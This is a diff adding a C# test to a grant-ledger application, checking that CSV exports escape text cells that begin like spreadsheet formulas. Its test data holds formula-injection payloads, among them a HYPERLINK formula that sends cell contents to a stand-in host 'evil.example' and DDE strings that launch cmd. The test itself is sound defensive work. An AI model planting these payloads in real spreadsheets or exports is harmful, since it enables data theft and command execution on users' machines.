@@ -176,6 +176,36 @@ public class ExportTests(LedgerHost host) : FromStartOfTime(host.Clock)
         Assert.Equal("-2500.00", rows[1]["amount"]);
     }
 
+    /// <summary>Every start a spreadsheet runs as a formula (OWASP's list: = + - @ tab CR), typed by a hostile user into a text cell.</summary>
+    [Theory]
+    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")")]
+    [InlineData("+1+cmd|' /C calc'!A0")]
+    [InlineData("-1+cmd|' /C calc'!A0")]
+    [InlineData("@SUM(1+9)*cmd|' /C calc'!A0")]
+    [InlineData("\t=1+cmd|' /C calc'!A0")]
+    [InlineData("\r=1+cmd|' /C calc'!A0")]
+    public async Task a_text_cell_that_starts_like_a_formula_reaches_the_spreadsheet_as_text(string hostile)
+    {
+        host.Clock.Reset(Instant.FromUtc(2021, 6, 4, 6, 0));
+        var grant = await _ledger.GrantOf(20_000m);
+        var paid = await host.Post($"/api/grants/{grant}/disbursements", new
+        {
+            amount = 1_000m, valueDate = "2020-05-04", reference = hostile, note = hostile,
+        }, new Dictionary<string, string> { ["Idempotency-Key"] = Guid.NewGuid().ToString() });
+        Assert.Equal(201, paid.Status);
+
+        var row = Assert.Single(await Csv($"/api/exports/ledger-entries.csv?grantId={grant}"));
+
+        // A leading tab or CR is trimmed when the payment is recorded; what follows it is escaped all the same.
+        foreach (var cell in new[] { row["note"], row["bankReference"] })
+        {
+            Assert.StartsWith("'", cell);
+            Assert.Equal(hostile.TrimStart('\t', '\r'), cell[1..].TrimStart('\t', '\r'));
+        }
+
+        Assert.Equal("1000.00", row["amount"]);
+    }
+
     [Fact]
     public async Task the_audit_trail_csv_lists_a_grants_events_in_the_period_with_who_and_why()
     {
